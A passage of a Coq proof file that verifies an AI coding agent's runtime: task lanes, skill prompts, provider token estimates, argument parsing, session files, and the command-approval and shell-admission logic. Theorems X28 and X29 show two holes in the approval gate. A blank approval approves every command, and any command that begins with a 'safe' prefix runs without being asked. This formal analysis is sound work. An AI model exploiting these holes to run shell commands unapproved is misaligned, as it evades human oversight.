Qed.

(** X19.  What a lane does is what it would do if nothing had ever been
    enqueued or settled on the other lanes: leaving their steps out of a
    run gives a run in which this lane has the same effects and ends in the
    same state. *)
Theorem lanes_are_independent steps m log key :
  exec steps new_LaneManager [] = Some (m, log) ->
  exists m' log',
    exec (List.filter (on_key key) steps) new_LaneManager [] = Some (m', log')
    /\ lane_at key m' = lane_at key m
    /\ on_lane key log' = on_lane key log.
Proof.
  intros He.
  exact (exec_without_the_others key steps new_LaneManager [] new_LaneManager []
           m log eq_refl eq_refl He).
Qed.

End LaneOutcomes.

(** ** Skills and provider replies in a turn *)

Section SkillFacts.
Import Tools Agent.
Context {W J : Type}.
Variable fl : Q -> Q.
Variable JSON_parse : string -> option J.

Local Abbreviation Machine := (@Machine W J).
Local Abbreviation Event := (@Event W J).

Lemma compact_head estimate conv m :
  head conv = Some m -> role m = system ->
  head (Ctx.compact estimate conv).1 = Some m.
Proof.
  intros Hh Hm.
  destruct (compact_cases estimate conv)
    as [[_ ->]|[(m' & rest & _ & _ & _ & ->)
       |[(m' & rest & summary & notice & E & _ & _ & ->)
        |(summary & notice & Hn & _ & _)]]]; cbn [fst]; try assumption.
  - subst conv. exact Hh.
  - exfalso. apply Hn. destruct conv as [|m0 conv]; [discriminate|].
    cbn in Hh |- *. congruence.
Qed.

Lemma guard_head p (s : Machine) m :
  head (messages (agent s)) = Some m -> role m = system ->
  head (messages (agent (guard fl p s).2)) = Some m.
Proof.
  intros Hh Hm. unfold guard.
  destruct (Ctx.needsCompaction _ _ _); [|exact Hh].
  pose proof (compact_head (estimateTokens p) _ _ Hh Hm) as Hc.
  destruct (Ctx.compact (estimateTokens p) (messages (agent s))) as [ms [n|]];
    exact Hc.
Qed.

Lemma buildPrompt_always_on loader skill input :
  In skill (Tools.skills loader) ->
  (forall t, trigger skill = Some t -> t = "") ->
  buildPrompt loader input <> "".
Proof.
  intros Hin Ht. unfold buildPrompt.
  assert (In skill (getRelevant loader input)) as Hrel.
  { unfold getRelevant. apply filter_In. split; [assumption|].
    destruct (trigger skill) as [t|]; [|reflexivity].
    now rewrite (Ht t eq_refl). }
  destruct (getRelevant loader input) as [|k ks]; [destruct Hrel|].
  cbn [length Nat.eqb]. discriminate.
Qed.

(** X20.  With a skill that has no trigger loaded, every turn of an agent
    whose conversation begins with a system message sends to the primary
    provider, as its first request, a conversation headed by the system
    prompt recomputed for this input, also when the guard compacts the
    conversation before the request. *)
Theorem always_on_skill_heads_every_request input (s : Machine) loader skill m rest :
  Agent.skills (agent s) = Some loader ->
  In skill (Tools.skills loader) ->
  (forall t, trigger skill = Some t -> t = "") ->
  messages (agent s) = m :: rest ->
  role m = system ->
  exists pre sent defs post,
    trace (handleMessage fl JSON_parse input s).2 =
      trace s ++ pre ++ EvChat (oid (provider (agent s))) sent defs :: post
    /\ provider_calls pre = 0%nat
    /\ head sent = Some (plain system (SYSTEM_PROMPT +:+ buildPrompt loader input))
    /\ buildPrompt loader input <> "".
Proof.
  intros Hl Hin Ht Hm Hr.
  pose proof (buildPrompt_always_on loader skill input Hin Ht) as Hp.
  pose proof (inject_skills_recomputes input s loader m rest Hl Hp Hm Hr) as Hi.
  rewrite handleMessage_unfold, handleMessage_turns_unfold. cbn [snd].
  change MAX_TURNS with (S 14).
  destruct (turn_loop_first_call fl JSON_parse 14 0
              (provider (agent (turn_start input s))) (turn_start input s))
    as (pre & defs & post & (Htr & _) & Hc).
  destruct (turn_start_configuration input s) as (Hprov & _).
  rewrite Hprov in Htr |- *.
  exists (EvAppend (plain user input) :: pre),
    (messages (agent (guard fl (provider (agent s)) (turn_start input s)).2)),
    defs, post.
  split; [|split; [|split]].
  - rewrite Htr. unfold turn_start. cbn [committed trace].
    destruct (inject_skills_frame input s) as (-> & _).
    now rewrite <- !app_assoc.
  - exact Hc.
  - apply guard_head; [|reflexivity].
    unfold turn_start. cbn [committed agent messages]. now rewrite Hi.
  - exact Hp.
Qed.

(** X21.  What the Groq provider returns never carries an empty list of
    tool calls, and the agent ends the turn by returning the content of the
    reply exactly when the reply has no tool call; the content returned for
    a missing one is the empty string.  On a reply with tool calls the
    round goes round again, or is cut short by a tool that rejects. *)
Theorem groq_reply_flow (reply : Providers.SdkMessage) (s : Machine) :
  tool_calls (Providers.groq_message reply) <> Some []
  /\ match Providers.sdk_tool_calls reply with
     | Some (_ :: _) =>
         (respond JSON_parse (Providers.groq_message reply) s).1 = Continue
         \/ exists e,
              (respond JSON_parse (Providers.groq_message reply) s).1 = Throw e
     | _ =>
         (respond JSON_parse (Providers.groq_message reply) s).1 =
           Return (default "" (Providers.sdk_content reply))
     end.
Proof.
  rewrite respond_unfold. unfold Providers.groq_message.
  destruct reply as [c [[|tc tcs]|]]; cbn [Providers.sdk_tool_calls
    Providers.sdk_content tool_calls content map fst].
  all: split; [discriminate|].
  2: { match goal with
       |- context [(dispatch_all ?P ?l ?st).1] =>
         destruct (dispatch_all P l st).1 as [e|]
       end; [right; now exists e|now left]. }
  all: destruct c as [text|]; cbn; [|reflexivity].
  all: unfold JS.truthy; destruct (String.eqb_spec text ""); subst; reflexivity.
Qed.

End SkillFacts.

(** ** The estimates of the two providers *)

Section EstimateFacts.

Lemma estimateTotal_cons (e : string -> Z) m messages :
  Ctx.estimateTotal e (m :: messages) =
    (e (content m)
     + match tool_calls m with
       | Some tcs =>
           fold_left
             (fun total tc => (total + e (fn_arguments (tc_function tc)))%Z) tcs 0
       | None => 0
       end
     + Ctx.estimateTotal e messages)%Z.
Proof.
  unfold Ctx.estimateTotal at 1. cbn [fold_left].
  rewrite estimateTotal_fold.
  destruct (tool_calls m) as [tcs|]; [rewrite tool_calls_fold|]; lia.
Qed.

Lemma tool_calls_fold_mono (e1 e2 : string -> Z) (tcs : list ToolCall) :
  (forall text, (e1 text <= e2 text)%Z) ->
  (fold_left (fun total tc => (total + e1 (fn_arguments (tc_function tc)))%Z) tcs 0
   <= fold_left (fun total tc => (total + e2 (fn_arguments (tc_function tc)))%Z)
        tcs 0)%Z.
Proof.
  intros He. induction tcs as [|tc tcs IH]; cbn [fold_left]; [lia|].
  rewrite (tool_calls_fold e1 tcs (0 + _)%Z), (tool_calls_fold e2 tcs (0 + _)%Z).
  specialize (He (fn_arguments (tc_function tc))). lia.
Qed.

Lemma estimateTotal_mono (e1 e2 : string -> Z) messages :
  (forall text, (e1 text <= e2 text)%Z) ->
  (Ctx.estimateTotal e1 messages <= Ctx.estimateTotal e2 messages)%Z.
Proof.
  intros He. induction messages as [|m messages IH]; [reflexivity|].
  rewrite !estimateTotal_cons.
  pose proof (He (content m)).
  destruct (tool_calls m) as [tcs|];
    [pose proof (tool_calls_fold_mono e1 e2 tcs He)|]; lia.
Qed.

Lemma groq_below_ollama text :
  (Providers.groq_estimateTokens text <= Providers.ollama_estimateTokens text)%Z.
Proof.
  unfold Providers.groq_estimateTokens, Providers.ollama_estimateTokens.
  set (n := Z.of_nat (String.length text)).
  assert (0 <= n)%Z by (subst n; lia).
  apply Z.div_le_lower_bound; [lia|].
  pose proof (Z.mul_div_le (n + 3) 4 ltac:(lia)).
  pose proof (Z.mod_pos_bound (n + 3) 4 ltac:(lia)).
  pose proof (Z.div_mod (n + 3) 4 ltac:(lia)).
  lia.
Qed.

(** X22.  The estimate of the Ollama provider is never below the one of
    the Groq provider, on a text and so on a conversation; hence a
    conversation that the guard compacts when Groq is the active provider
    is one that it compacts when Ollama is, under the same guard. *)
Theorem compaction_under_groq_is_compaction_under_ollama
    (fl : Q -> Q) (g : Ctx.ContextGuard) (messages : list Message) :
  Ctx.needsCompaction Providers.groq_estimateTokens fl g messages = true ->
  Ctx.needsCompaction Providers.ollama_estimateTokens fl g messages = true
  /\ (Ctx.estimateTotal Providers.groq_estimateTokens messages
      <= Ctx.estimateTotal Providers.ollama_estimateTokens messages)%Z.
Proof.
  intros H.
  pose proof (estimateTotal_mono _ _ messages groq_below_ollama) as Hle.
  split; [|exact Hle].
  unfold Ctx.needsCompaction in *.
  apply negb_true_iff in H. apply negb_true_iff.
  destruct (Qle_bool (inject_Z (Ctx.estimateTotal Providers.ollama_estimateTokens messages)) _)
    eqn:E; [|reflexivity].
  apply Qle_bool_iff in E.
  assert (Qle_bool (inject_Z (Ctx.estimateTotal Providers.groq_estimateTokens messages))
            (fl (Ctx.maxTokens g * Ctx.threshold g)%Q) = true) as E'.
  { apply Qle_bool_iff. eapply Qle_trans; [|exact E].
    rewrite <- Zle_Qle. exact Hle. }
  congruence.
Qed.

End EstimateFacts.

(** ** The command line *)

Section CliFacts.
Import Cli.

Lemma parseArgs_loop_kept (n : nat) : forall args r v,
  (length args <= n)%nat ->
  parseArgs_loop args r = Some v ->
  r = Some v
  \/ (v <> "" /\ exists pre post, args = pre ++ "--resume" :: v :: post).
Proof.
  induction n as [|n IH]; intros args r v Hn H.
  - destruct args; [left; exact H|cbn in Hn; lia].
  - destruct args as [|arg rest]; [left; exact H|].
    cbn [length] in Hn. cbn [parseArgs_loop] in H.
    destruct (String.eqb_spec arg "--resume") as [->|_].
    + destruct rest as [|value rest']; [left; exact H|].
      cbn [length] in Hn.
      destruct (JS.truthy value) eqn:Hv.
      * destruct (IH rest' (Some value) v ltac:(lia) H)
          as [E|(Hne & pre & post & ->)].
        -- injection E as ->. right. split.
           ++ intros ->. discriminate Hv.
           ++ now exists [], rest'.
        -- right. split; [assumption|].
           now exists ("--resume" :: value :: pre), post.
      * destruct (IH (value :: rest') r v ltac:(cbn [length]; lia) H)
          as [E|(Hne & pre & post & E)]; [now left|].
        right. split; [assumption|].
        exists ("--resume" :: pre), post. cbn. now rewrite E.
    + destruct (IH rest r v ltac:(lia) H) as [E|(Hne & pre & post & ->)];
        [now left|].
      right. split; [assumption|]. now exists (arg :: pre), post.
Qed.

Lemma parseArgs_loop_stays (n : nat) : forall args v,
  (length args <= n)%nat -> is_Some (parseArgs_loop args (Some v)).
Proof.
  induction n as [|n IH]; intros args v Hn.
  - destruct args; [now eexists|cbn in Hn; lia].
  - destruct args as [|arg rest]; [now eexists|].
    cbn [length] in Hn. cbn [parseArgs_loop].
    destruct (String.eqb arg "--resume"); [|apply IH; lia].
    destruct rest as [|value rest']; [now eexists|].
    cbn [length] in Hn.
    destruct (JS.truthy value); apply IH; cbn [length]; lia.
Qed.

(** X23.  The session that [parseArgs] reports is never the empty string
    and stands in the arguments right after a [--resume]. *)
Theorem parseArgs_reports_an_argument (args : list string) (v : string) :
  parseArgs args = Some v ->
  v <> "" /\ exists pre post, args = pre ++ "--resume" :: v :: post.
Proof.
  intros H.
  destruct (parseArgs_loop_kept (length args) args None v (le_n _) H)
    as [E|R]; [discriminate|exact R].
Qed.

(** X24.  A [--resume] that is the first one of the arguments and is
    followed by a value other than the empty string is not missed. *)
Theorem parseArgs_finds_the_first_resume (pre post : list string) (v : string) :
  ~ In "--resume" pre ->
  v <> "" ->
  is_Some (parseArgs (pre ++ "--resume" :: v :: post)).
Proof.
  intros Hpre Hv. unfold parseArgs. generalize (@None string) as r.
  induction pre as [|arg pre IH]; intros r.
  - cbn [app parseArgs_loop String.eqb Ascii.eqb Bool.eqb].
    change (String.eqb "--resume" "--resume") with true. cbn iota.
    unfold JS.truthy. destruct (String.eqb_spec v ""); [contradiction|].
    cbn [negb]. apply (parseArgs_loop_stays (length post)). lia.
  - cbn [app parseArgs_loop].
    destruct (String.eqb_spec arg "--resume") as [->|_].
    + exfalso. apply Hpre. now left.
    + apply IH. intros Hin. apply Hpre. now right.
Qed.

End CliFacts.

(** ** The session file *)

Section SessionFacts.
Import Session.
Variable stringify : Entry -> string.
Variable parse : string -> option Entry.

Lemma split_char_line (line rest : string) :
  ~ In LFc (String.list_ascii_of_string line) ->
  JSText.split_char LFc (line +:+ JS.LF +:+ rest) =
    line :: JSText.split_char LFc rest.
Proof.
  induction line as [|c line IH]; intros Hno.
  - reflexivity.
  - change (String c line +:+ JS.LF +:+ rest)
      with (String c (line +:+ JS.LF +:+ rest)).
    cbn [JSText.split_char].
    destruct (Ascii.eqb_spec c LFc) as [->|_].
    + exfalso. apply Hno. now left.
    + rewrite IH; [reflexivity|]. intros Hin. apply Hno. now right.
Qed.

Lemma string_app_assoc (a b c : string) : (a +:+ b) +:+ c = a +:+ (b +:+ c).
Proof.
  induction a as [|x a IH]; [reflexivity|].
  change ((String x a +:+ b) +:+ c) with (String x ((a +:+ b) +:+ c)).
  change (String x a +:+ (b +:+ c)) with (String x (a +:+ (b +:+ c))).
  now rewrite IH.
Qed.

Lemma string_app_empty (a : string) : a +:+ "" = a.
Proof.
  induction a as [|x a IH]; [reflexivity|].
  change (String x a +:+ "") with (String x (a +:+ "")). now rewrite IH.
Qed.

Lemma written_snoc es e :
  written stringify (es ++ [e]) = written stringify es +:+ stringify e +:+ JS.LF.
Proof.
  induction es as [|e0 es IH]; cbn [written fold_right app].
  - now rewrite string_app_empty.
  - fold (written stringify (es ++ [e])). fold (written stringify es).
    now rewrite IH, !string_app_assoc.
Qed.

Lemma lines_of_written es :
  (forall e, In e es -> ~ In LFc (String.list_ascii_of_string (stringify e))) ->
  (forall e, In e es -> JS.truthy (JSText.trim (stringify e)) = true) ->
  List.filter (fun l => JS.truthy (JSText.trim l))
    (JSText.split_char LFc (written stringify es)) = map stringify es.
Proof.
  intros Hno Hvis. induction es as [|e es IH]; [reflexivity|].
  cbn [written fold_right]. fold (written stringify es).
  rewrite split_char_line by (apply Hno; now left).
  cbn [List.filter]. rewrite (Hvis e) by now left.
  cbn [map]. f_equal. apply IH; intros e' Hin; [apply Hno|apply Hvis]; now right.
Qed.

Lemma appends_written (st : SessionStore) es : forall files,
  files !! filePath st = None ->
  let files' := fold_left (fun fs e => append stringify st e.1 e.2 fs) es files in
  files' !! filePath st = match es with [] => None | _ => Some (written stringify es) end
  /\ forall p, p <> filePath st -> files' !! p = files !! p.
Proof.
  induction es as [|e es IH] using rev_ind; intros files Hnew; cbv zeta.
  - split; [exact Hnew|reflexivity].
  - rewrite fold_left_app. cbn [fold_left].
    destruct (IH files Hnew) as (Hat & Hother).
    set (fs := fold_left _ es files) in *. clearbody fs.
    unfold append, Files in *.
    split.
    + rewrite lookup_insert_eq, Hat.
      destruct e as [m ts]. cbn [fst snd].
      rewrite written_snoc.
      destruct es as [|e0 es]; cbn [default app]; reflexivity.
    + intros p Hp.
      rewrite lookup_insert_ne by congruence. now apply Hother.
Qed.

(** X25.  What is appended to a new session file is what [load] returns,
    in order and without the time stamps, if [JSON.parse] undoes
    [JSON.stringify] on these entries and their text has no line feed and
    is not blank; the other files are left as they were. *)
Theorem load_returns_what_was_appended (st : SessionStore) (es : list Entry)
    (files : Files) :
  files !! filePath st = None ->
  (forall e, In e es -> parse (stringify e) = Some e) ->
  (forall e, In e es -> ~ In LFc (String.list_ascii_of_string (stringify e))) ->
  (forall e, In e es -> JS.truthy (JSText.trim (stringify e)) = true) ->
  let files' := fold_left (fun fs e => append stringify st e.1 e.2 fs) es files in
  load parse st files' = Some (map fst es)
  /\ forall p, p <> filePath st -> files' !! p = files !! p.
Proof.
  intros Hnew Hparse Hno Hvis. cbv zeta.
  destruct (appends_written st es files Hnew) as (Hat & Hother).
  split; [|exact Hother].
  unfold load. rewrite Hat.
  destruct es as [|e0 es0] eqn:Ees; [reflexivity|]. rewrite <- Ees in *.
  fold LFc. rewrite lines_of_written by assumption.
  clear Hat Hother Ees Hno Hvis.
  induction es as [|e es IH]; [reflexivity|].
  cbn [map mapM]. rewrite Hparse by now left.
  cbn. rewrite IH by (intros e' Hin; apply Hparse; now right).
  reflexivity.
Qed.

End SessionFacts.

(** ** The approval store *)

Section ApprovalFacts.
Import Approvals.

Lemma prefix_empty (t : string) : String.prefix "" t = true.
Proof. now destruct t. Qed.

Lemma prefix_cons c (a t : string) :
  String.prefix (String c a) (String c t) = String.prefix a t.
Proof.
  cbn [String.prefix]. destruct (Ascii.ascii_dec c c); [reflexivity|contradiction].
Qed.

Lemma prefix_app (a b : string) : String.prefix a (a +:+ b) = true.
Proof.
  induction a as [|c a IH]; [apply prefix_empty|].
  change (String c a +:+ b) with (String c (a +:+ b)).
  now rewrite prefix_cons.
Qed.

Lemma prefix_app_app (a b t : string) :
  String.prefix b t = true -> String.prefix (a +:+ b) (a +:+ t) = true.
Proof.
  intros H. induction a as [|c a IH]; [exact H|].
  change (String c a +:+ b) with (String c (a +:+ b)).
  change (String c a +:+ t) with (String c (a +:+ t)).
  now rewrite prefix_cons.
Qed.

Lemma split_spaces_head (t : string) :
  exists piece pieces,
    JSText.split_spaces t = piece :: pieces
    /\ String.prefix piece t = true
    /\ (starts_with_space t = true -> piece = "").
Proof.
  induction t as [|c t (piece & pieces & E & Hp & Hs)].
  - now exists "", [].
  - cbn [JSText.split_spaces starts_with_space].
    destruct (JSText.is_space c) eqn:Hc.
    + destruct t as [|c' t'].
      * now eexists _, _.
      * cbn [starts_with_space] in Hs.
        destruct (JSText.is_space c') eqn:Hc'.
        -- rewrite E, (Hs eq_refl). now exists "", pieces.
        -- now eexists _, _.
    + rewrite E. exists (String c piece), pieces.
      split; [reflexivity|]. split; [now rewrite prefix_cons|discriminate].
Qed.

Lemma split_spaces_word (w rest : string) :
  no_space w -> starts_with_space rest = false ->
  JSText.split_spaces (w +:+ " " +:+ rest) = w :: JSText.split_spaces rest.
Proof.
  intros Hw Hr. induction w as [|c w IH].
  - change ("" +:+ " " +:+ rest) with (String (Ascii.ascii_of_nat 32) rest).
    cbn [JSText.split_spaces].
    change (JSText.is_space (Ascii.ascii_of_nat 32)) with true. cbn iota.
    destruct rest as [|c' rest']; [reflexivity|].
    cbn [starts_with_space] in Hr. now rewrite Hr.
  - change (String c w +:+ " " +:+ rest) with (String c (w +:+ " " +:+ rest)).
    cbn [JSText.split_spaces].
    rewrite (Hw c) by now left.
    rewrite IH; [reflexivity|].
    intros c' Hin. apply Hw. now right.
Qed.

Lemma existsb_map_set (f : string * ApprovalEntry -> bool) k v bs :
  f (k, v) = true -> existsb f (map_set k v bs) = true.
Proof.
  intros H. induction bs as [|[k' v'] bs IH]; cbn [map_set existsb].
  - now rewrite H.
  - destruct (String.eqb k' k); cbn [existsb].
    + now rewrite H.
    + rewrite IH. apply orb_true_r.
Qed.

Lemma existsb_map_set_kept (t : string) k v bs :
  Forall (fun b => pattern b.2 = b.1) bs ->
  pattern v = k ->
  existsb (fun b => JSText.startsWith t (pattern b.2)) bs = true ->
  existsb (fun b => JSText.startsWith t (pattern b.2)) (map_set k v bs) = true.
Proof.
  intros Hk Hv. induction bs as [|[k' v'] bs IH]; cbn [map_set existsb];
    [discriminate|].
  apply List.Forall_cons_iff in Hk as [Hb Hbs]. cbn [fst snd] in Hb.
  specialize (IH Hbs).
  intros H. apply orb_true_iff in H.
  destruct (String.eqb_spec k' k) as [->|_]; cbn [existsb snd].
  - destruct H as [H|H]; apply orb_true_iff.
    + left. now rewrite Hv, <- Hb.
    + now right.
  - apply orb_true_iff. destruct H as [H|H]; [now left|right; now apply IH].
Qed.

Lemma map_set_keyed k v bs :
  Forall (fun b => pattern b.2 = b.1) bs ->
  pattern v = k ->
  Forall (fun b => pattern b.2 = b.1) (map_set k v bs).
Proof.
  intros Hk Hv. induction bs as [|[k' v'] bs IH]; cbn [map_set].
  - now constructor.
  - apply List.Forall_cons_iff in Hk as [Hb Hbs].
    destruct (String.eqb k' k); constructor; auto.
Qed.

Lemma map_set_length k v bs :
  (length bs <= length (map_set k v bs) <= S (length bs))%nat.
Proof.
  induction bs as [|[k' v'] bs IH]; cbn [map_set length]; [lia|].
  destruct (String.eqb k' k); cbn [length]; lia.
Qed.

Lemma extractPattern_blank (blank : string) :
  JSText.trim blank = "" -> extractPattern blank = "".
Proof. intros H. unfold extractPattern. now rewrite H. Qed.

Lemma extractPattern_prefix (command : string) :
  existsb (String.eqb (hd "" (JSText.split_spaces (JSText.trim command))))
    toolsWithSubcommands = false
  \/ (exists w rest,
        JSText.trim command = w +:+ " " +:+ rest
        /\ no_space w /\ starts_with_space rest = false) ->
  JSText.startsWith (JSText.trim command) (extractPattern command) = true.
Proof.
  unfold extractPattern, JSText.startsWith.
  intros [H|(w & rest & E & Hw & Hr)].
  - destruct (split_spaces_head (JSText.trim command))
      as (piece & pieces & E & Hp & _).
    rewrite E in H |- *. cbn [hd] in H.
    destruct pieces as [|second others]; [exact Hp|].
    now rewrite H.
  - rewrite E, split_spaces_word by assumption.
    destruct (split_spaces_head rest) as (piece & pieces & E' & Hp & _).
    rewrite E'.
    destruct (existsb (String.eqb w) toolsWithSubcommands).
    + apply prefix_app_app. now apply (prefix_app_app " ").
    + apply prefix_app.
Qed.

(** X26.  Right after a command is approved the store answers that it is
    approved, whatever else it holds, when the first word of the command is
    not one of the tools with subcommands or when one space separates its
    first word from the rest. *)
Theorem approved_command_is_approved (command now : string) (st : ApprovalStore) :
  existsb (String.eqb (hd "" (JSText.split_spaces (JSText.trim command))))
    toolsWithSubcommands = false
  \/ (exists w rest,
        JSText.trim command = w +:+ " " +:+ rest
        /\ no_space w /\ starts_with_space rest = false) ->
  isApproved (approve command now st) command = true.
Proof.
  intros H. unfold isApproved, approve. cbn [approvals].
  apply existsb_map_set. cbn [snd pattern].
  now apply extractPattern_prefix.
Qed.

(** X27.  An approval revokes nothing: in a store whose bindings are filed
    under their patterns, what was approved stays approved after another
    command is approved, the bindings stay filed so, and the store grows by
    at most one pattern. *)
Theorem approvals_are_kept (command other now : string) (st : ApprovalStore) :
  keyed st ->
  isApproved st command = true ->
  isApproved (approve other now st) command = true
  /\ keyed (approve other now st)
  /\ (size st <= size (approve other now st) <= S (size st))%nat.
Proof.
  intros Hk H. unfold isApproved, approve, keyed, size in *. cbn [approvals].
  split; [|split].
  - now apply existsb_map_set_kept.
  - now apply map_set_keyed.
  - apply map_set_length.
Qed.

(** X28.  Once a command of white space only is approved, every command is
    approved: its pattern is the empty string, with which every command
    starts. *)
Theorem blank_approval_approves_everything (blank now command : string)
    (st : ApprovalStore) :
  JSText.trim blank = "" ->
  isApproved (approve blank now st) command = true.
Proof.
  intros H. unfold isApproved, approve. cbn [approvals].
  apply existsb_map_set. cbn [snd pattern].
  rewrite extractPattern_blank by assumption.
  apply prefix_empty.
Qed.

End ApprovalFacts.

(** ** The shell tool's admission of a command *)

Section ShellFacts.
Import Shell.

Lemma trimStart_blank (lead text : string) :
  only_spaces lead -> JSText.trimStart (lead +:+ text) = JSText.trimStart text.
Proof.
  intros H. induction lead as [|c lead IH]; [reflexivity|].
  change (String c lead +:+ text) with (String c (lead +:+ text)).
  cbn [JSText.trimStart]. rewrite (H c) by now left.
  apply IH. intros c' Hin. apply H. now right.
Qed.

Lemma safe_commands_begin_with_a_letter :
  Forall (fun safe => starts_with_space safe = false /\ safe <> "") SAFE_COMMANDS.
Proof. repeat constructor; discriminate. Qed.

Lemma trimStart_kept (text : string) :
  starts_with_space text = false -> JSText.trimStart text = text.
Proof.
  destruct text as [|c text]; [reflexivity|].
  cbn [starts_with_space JSText.trimStart]. now intros ->.
Qed.

Lemma append_not_empty (a b : string) : a <> "" -> a +:+ b <> "".
Proof. destruct a; [contradiction|discriminate]. Qed.

Lemma append_empty_inv (a b : string) : a +:+ b = "" -> b = "".
Proof. destruct a; [trivial|discriminate]. Qed.

(** X29.  A command that begins, after white space, with one of the safe
    commands and that no blocked pattern matches is run without the
    approval being asked for, whatever follows the safe command and
    whatever the approval settings are. *)
Theorem safe_prefix_runs_unasked (matching : string -> option string)
    (requireApproval hasCallback : bool) (lead safe rest : string) :
  In safe SAFE_COMMANDS ->
  only_spaces lead ->
  matching (lead +:+ safe +:+ rest) = None ->
  admission matching requireApproval hasCallback (lead +:+ safe +:+ rest) = Run.
Proof.
  intros Hin Hlead Hm.
  pose proof (proj1 (List.Forall_forall _ _) safe_commands_begin_with_a_letter
                safe Hin) as (Hs & Hne).
  unfold admission. rewrite Hm.
  assert (JS.truthy (lead +:+ safe +:+ rest) = true) as ->.
  { unfold JS.truthy.
    destruct (String.eqb_spec (lead +:+ safe +:+ rest) "") as [E|_];
      [|reflexivity].
    apply append_empty_inv in E. now apply append_not_empty in E. }
  cbn [negb].
  assert (isSafe (lead +:+ safe +:+ rest) = true) as ->; [|reflexivity].
  unfold isSafe. apply existsb_exists. exists safe. split; [assumption|].
  rewrite trimStart_blank by assumption.
  rewrite trimStart_kept.
  - apply prefix_app.
  - destruct safe as [|c safe']; [contradiction|exact Hs].
Qed.

End ShellFacts.

(** ** Examples of the further properties *)

Section FurtherExamples.
Import Tools Agent Fixtures MoreFixtures.

(** *** Registry and guard *)


Lemma needsCompaction_after_append_witness :
  Ctx.needsCompaction groq_estimate exact_product tight_guard
    (seven_messages ++ [plain user "more"]) = true.
Proof.
  apply (needsCompaction_after_append groq_estimate exact_product tight_guard
           seven_messages [plain user "more"]).
  - intros text. unfold groq_estimate. apply Z.div_pos; lia.
  - vm_compute. reflexivity.
Defined.

Lemma compaction_under_groq_is_compaction_under_ollama_witness :
  Ctx.needsCompaction Providers.ollama_estimateTokens exact_product tight_guard
    seven_messages = true
  /\ (Ctx.estimateTotal Providers.groq_estimateTokens seven_messages
      <= Ctx.estimateTotal Providers.ollama_estimateTokens seven_messages)%Z.
Proof.
  apply (compaction_under_groq_is_compaction_under_ollama exact_product
           tight_guard seven_messages).
  vm_compute. reflexivity.
Defined.

(** *** Turns *)




Lemma system_message_stays_first_witness :
  first_is_system
    (messages
       (agent (fold_left
                 (fun s input => (handleMessage exact_product parse_object input s).2)
                 ["hi"; "again"] with_shell))).
Proof.
  apply (system_message_stays_first exact_product parse_object ["hi"; "again"]
           with_shell).
  exists (plain system SYSTEM_PROMPT), []. split; reflexivity.
Defined.

Lemma always_on_skill_heads_every_request_witness :
  exists pre sent defs post,
    trace (handleMessage exact_product parse_object "hi" with_style_skill).2 =
      trace with_style_skill ++ pre ++ EvChat 1%nat sent defs :: post
    /\ provider_calls pre = 0%nat
    /\ head sent =
         Some (plain system
                 (SYSTEM_PROMPT +:+
                  buildPrompt {| Tools.skills := [style_skill] |} "hi"))
    /\ buildPrompt {| Tools.skills := [style_skill] |} "hi" <> "".
Proof.
  apply (always_on_skill_heads_every_request exact_product parse_object "hi"
           with_style_skill {| Tools.skills := [style_skill] |} style_skill
           (plain system SYSTEM_PROMPT) []).
  - reflexivity.
  - left. reflexivity.
  - intros t H. discriminate H.
  - reflexivity.
  - reflexivity.
Defined.

(** *** Lanes *)

Lemma outcomes_go_to_their_waiters_witness :
  exists m log,
    Lanes.exec lane_steps Lanes.new_LaneManager [] = Some (m, log)
    /\ handed (Lanes.on_lane "default" log) =
         [(1%nat, Lanes.Failed); (2%nat, Lanes.Fulfilled)].
Proof.
  destruct (Lanes.exec lane_steps Lanes.new_LaneManager []) as [[m log]|] eqn:E.
  - exists m, log. split; [reflexivity|].
    exact (outcomes_go_to_their_waiters lane_steps m log "default" E).
  - vm_compute in E. discriminate.
Defined.

Lemma running_and_pending_witness :
  exists m log,
    Lanes.exec lane_steps Lanes.new_LaneManager [] = Some (m, log)
    /\ Lanes.isRunning nat (Lanes.lane_at "default" m) = true
    /\ Lanes.pending nat (Lanes.lane_at "default" m) = 0%nat.
Proof.
  destruct (Lanes.exec lane_steps Lanes.new_LaneManager []) as [[m log]|] eqn:E.
  - exists m, log. split; [reflexivity|].
    destruct (running_and_pending lane_steps m log "default" E) as [Hr Hp].
    split; [exact Hr|]. rewrite Hp, Hr. reflexivity.
  - vm_compute in E. discriminate.
Defined.

Lemma lanes_are_independent_witness :
  exists m log,
    Lanes.exec lane_steps Lanes.new_LaneManager [] = Some (m, log)
    /\ exists m' log',
         Lanes.exec (List.filter (on_key "default") lane_steps)
           Lanes.new_LaneManager [] = Some (m', log')
         /\ Lanes.lane_at "default" m' = Lanes.lane_at "default" m
         /\ Lanes.on_lane "default" log' = Lanes.on_lane "default" log.
Proof.
  destruct (Lanes.exec lane_steps Lanes.new_LaneManager []) as [[m log]|] eqn:E.
  - exists m, log. split; [reflexivity|].
    exact (lanes_are_independent lane_steps m log "default" E).
  - vm_compute in E. discriminate.
Defined.

(** *** Command line, session file, approvals and shell *)

Lemma parseArgs_reports_an_argument_witness :
  "session_1" <> ""
  /\ exists pre post,
       ["--resume"; "session_1"] = pre ++ "--resume" :: "session_1" :: post.
Proof.
  apply (parseArgs_reports_an_argument ["--resume"; "session_1"] "session_1").
  reflexivity.
Defined.

Lemma parseArgs_finds_the_first_resume_witness :
  is_Some (Cli.parseArgs (["--verbose"] ++ "--resume" :: "session_1" :: [])).
Proof.
  apply (parseArgs_finds_the_first_resume ["--verbose"] [] "session_1").
  - intros [H|[]]. discriminate H.
  - discriminate.
Defined.

Lemma load_returns_what_was_appended_witness :
  let files' :=
    fold_left (fun fs e => Session.append sample_stringify sample_store e.1 e.2 fs)
      [sample_entry] (∅ : Session.Files) in
  Session.load sample_parse sample_store files' = Some [plain user "hi"]
  /\ forall p, p <> Session.filePath sample_store ->
               files' !! p = (∅ : Session.Files) !! p.
Proof.
  apply (load_returns_what_was_appended sample_stringify sample_parse
           sample_store [sample_entry] ∅).
  - reflexivity.
  - intros e [<-|[]]. reflexivity.
  - intros e [<-|[]]. vm_compute. intros [H|[H|[H|[H|[]]]]]; discriminate H.
  - intros e [<-|[]]. reflexivity.
Defined.

Lemma approved_command_is_approved_witness :
  Approvals.isApproved
    (Approvals.approve "git push origin main" "2026-01-01T00:00:00.000Z"
       no_approvals)
    "git push origin main" = true.
Proof.
  apply (approved_command_is_approved "git push origin main"
           "2026-01-01T00:00:00.000Z" no_approvals).
  right. exists "git", "push origin main".
  split; [reflexivity|]. split; [|reflexivity].
  intros c [<-|[<-|[<-|[]]]]; reflexivity.
Defined.

Lemma approvals_are_kept_witness :
